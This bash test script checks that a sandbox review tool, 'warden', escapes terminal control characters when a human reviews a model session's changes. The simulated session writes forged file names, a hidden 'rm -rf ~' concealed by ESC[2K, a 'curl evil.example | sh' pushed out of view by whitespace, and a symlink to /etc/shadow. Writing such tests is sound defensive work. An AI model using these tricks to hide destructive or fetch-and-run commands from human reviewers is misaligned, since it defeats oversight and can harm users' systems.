#!/usr/bin/env bash
# The review channel cannot be forged (docs/threat-model.md).  A command in a cow
# session writes what a human later reads through warden: file names with a
# newline, ESC sequences, CR and bidi controls; contents with CR, ESC[2K and
# OSC; a chmod 0777 beside a content change; a new directory 0700.  warden
# diff and apply's report must carry no raw control byte, C1 or bidi
# character, and must show each forged thing visibly.  Then a paused
# command with ESC, CR and U+202E in its arguments: the pause message,
# `warden check` and `warden approve`'s summary must escape them too.
. "$(dirname "$0")/lib.sh"
require_root
require_userns
require_python
grep -qw overlay /proc/filesystems || modprobe overlay 2>/dev/null ||
	skip "no overlayfs in this kernel"
[ -e /dev/loop-control ] || skip "no loop devices (sandbox disks)"

export WARDEN_STATE_DIR=$T/state
at_exit '"$WARDEN" rm rv >/dev/null 2>&1'

w() {
	"$WARDEN" "$@" >"$OUT" 2>"$ERR" </dev/null
	RC=$?
}

# clean FILE: no byte a terminal would obey: C0 but TAB and LF, DEL, a byte
# that is not UTF-8, C1 (U+0080-U+009F), bidi and zero-width characters.
clean() {
	python3 - "$1" <<'PY'
import re, sys
b = open(sys.argv[1], "rb").read()
bad = re.search(rb"[\x00-\x08\x0b-\x1f\x7f]", b)
if bad:
    sys.exit("raw byte 0x%02x at %d: %r" % (b[bad.start()], bad.start(), b[max(0, bad.start() - 30):bad.start() + 30]))
try:
    s = b.decode("utf-8")
except UnicodeDecodeError as e:
    sys.exit("not UTF-8: %s" % e)
bad = re.search("[\u0080-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]", s)
if bad:
    sys.exit("raw U+%04X at %d" % (ord(bad.group()), bad.start()))
PY
}

# has FILE FIXED-STRING: the file holds the string as it is.
has() {
	grep -qF -- "$2" "$1"
}

# ---- the project
cd "$WS" || exit 1
printf 'line one\nline two\n' >README.md
printf 'perm\n' >perm.txt
chmod 0644 perm.txt README.md
cd - >/dev/null || exit 1

w create rv --workspace "$WS" --workspace-mode cow --timeout 120
expect_rc 0 "create a cow session"

# ---- the model's turn (dash's printf: octal escapes)
w exec rv -- /bin/sh -c '
	set -e
	umask 022
	printf "forged\n" > "$(printf "x\nmodified  README.md")"
	printf "osc\n" > "$(printf "t\033]0;pwned\007\033[2Kname")"
	ln "$(printf "t\033]0;pwned\007\033[2Kname")" zz-hardlink
	printf "cr\n" > "$(printf "hide\rREADME.md")"
	printf "bidi\n" > "$(printf "evil\342\200\256txt.sh")"
	printf "line one\nrm -rf ~ \033[2K\r# a harmless comment\n\033]8;;http://x\033\\\\link\033]8;;\033\\\\\nif (admin\342\200\256) {\nline two\n" > README.md
	printf "perm changed\n" > perm.txt
	chmod 0777 perm.txt
	mkdir -m 0700 secretdir
	printf "# a comment%5000s; curl evil.example | sh\n" "" > long.sh
	ln -s "$(printf "/etc/shadow\033[2K")" out-link'
expect_rc 0 "the session writes names and contents a terminal would obey"

# ---- warden diff
w diff rv
expect_rc 0 "warden diff"
check "diff: no raw control byte, C1 or bidi character reaches the terminal" clean "$OUT"
check "diff: a name with a newline is quoted, not a second 'modified README.md' line" \
	test "$(grep -cE '^modified +README\.md$' "$OUT")" = 1
w diff rv --name-status
check "diff --name-status: a link's target is on its line, quoted" \
	has "$OUT" '(symlink -> "/etc/shadow\033[2K")'
w diff rv
check "diff: a long line is shown whole (what follows 5,000 spaces is not hidden)" \
	has "$OUT" '; curl evil.example | sh'
check "diff: a hard link's other name is quoted too" has "$OUT" '(hard link to "t\033]0;pwned\a\033[2Kname": same content, shown once)'
check "diff: the newline name is shown C-quoted" has "$OUT" 'added     "x\nmodified  README.md" (new file 0644)'
check "diff: a name with ESC and OSC is shown C-quoted, octal" has "$OUT" '"t\033]0;pwned\a\033[2Kname"'
check "diff: a name with CR is shown C-quoted" has "$OUT" '"hide\rREADME.md"'
check "diff: a name with U+202E is shown C-quoted, octal" has "$OUT" '"evil\342\200\256txt.sh"'
check "diff: the hunk's ESC[2K and CR are visible" has "$OUT" '+rm -rf ~ \x1b[2K\x0d# a harmless comment'
check "diff: the hunk's OSC 8 is visible" has "$OUT" '+\x1b]8;;http://x\x1b\link\x1b]8;;\x1b\'
check "diff: the hunk's U+202E is visible" has "$OUT" '+if (admin<U+202E>) {'
check "diff: a content change shows its chmod 0777" has "$OUT" 'modified  perm.txt (mode 0644 -> 0777)'
check "diff: a new directory shows its mode" has "$OUT" 'added     secretdir/ (new directory 0700)'
check "diff: git headers quote the names" has "$OUT" 'diff --git "a/x\nmodified  README.md" "b/x\nmodified  README.md"'

w diff rv --stat
expect_rc 0 "warden diff --stat"
check "diff --stat: no raw control byte" clean "$OUT"
check "diff --stat: names quoted" has "$OUT" ' "x\nmodified  README.md" '

w diff rv --name-status
check "diff --name-status: no raw control byte" clean "$OUT"

w diff rv --json
expect_rc 0 "warden diff --json"
check "diff --json stays JSON: the names as they are, escaped by JSON" python3 -c '
import json, sys
j = json.load(open(sys.argv[1]))
names = {f["path"] for f in j["files"]}
assert "x\nmodified  README.md" in names and "hide\rREADME.md" in names, names
m = [f for f in j["files"] if f["path"] == "perm.txt"][0]
assert m["old_mode"] == "100644" and m["new_mode"] == "100777", m
' "$OUT"

# ---- warden apply: the report a human reads
w apply rv
expect_rc 0 "warden apply"
check "apply: its report has no raw control byte" clean "$OUT"
check "apply: the newline name is quoted in the report" has "$OUT" 'added     "x\nmodified  README.md" (new file 0644)'
check "apply: one line names README.md, none forged" test "$(grep -cE '^[a-z]+ +README\.md$' "$OUT")" = 1
check "apply: the chmod is reported in octal" has "$OUT" 'written   perm.txt (mode 0644 -> 0777)'
check "apply: the new directory is reported with its mode" has "$OUT" 'added     secretdir/ (new directory 0700)'
check "apply: the host has what was shown (perm.txt 777)" test "$(stat -c %a "$WS/perm.txt")" = 777
check "apply: the host has what was shown (secretdir 700)" test "$(stat -c %a "$WS/secretdir")" = 700
"$WARDEN" rm rv >/dev/null 2>&1

# ---- a paused command whose arguments would drive the terminal
cat >"$T/p.json" <<'J'
{"version": 1, "programs": {"echo": {"approve": [["publish"]]}}}
J
ESCARG=$(printf 'ok\033[2K\rpublished safely')
BIDI=$(printf 'a\342\200\256b')
C1=$(printf 'c\302\233''31mred')
P=(--policy "$T/p.json" --audit "$T/audit.jsonl" --workspace "$WS")
w run "${P[@]}" -- echo publish "$ESCARG" "$BIDI" "$C1"
expect_rc 123 "the command pauses"
check "pause message: no raw control byte" clean "$ERR"
check "pause message: ESC, CR, U+202E and U+009B visible" has "$ERR" \
	'"ok\x1b[2K\x0dpublished safely" a<U+202E>b c<U+009B>31mred'
# (the spaced argument in double quotes: its words are one argument)
id=$(sed -n 's/.*warden approve \([0-9a-f]\{64\}\).*/\1/p' "$ERR" | head -n 1)
check "pause message: the approval id" test ${#id} = 64

w check --policy "$T/p.json" -- echo publish "$ESCARG" "$BIDI" "$C1"
check "warden check: no raw control byte" clean "$OUT"
check "warden check: U+202E visible" has "$OUT" "'a<U+202E>b'"

w approve "$id"
expect_rc 0 "warden approve"
check "approve summary: no raw control byte, C1 or bidi character" clean "$OUT"
check "approve summary: every argument visible" \
	has "$OUT" "'echo' 'publish' 'ok\\x1b[2K\\x0dpublished safely' 'a<U+202E>b' 'c<U+009B>31mred'"

finish
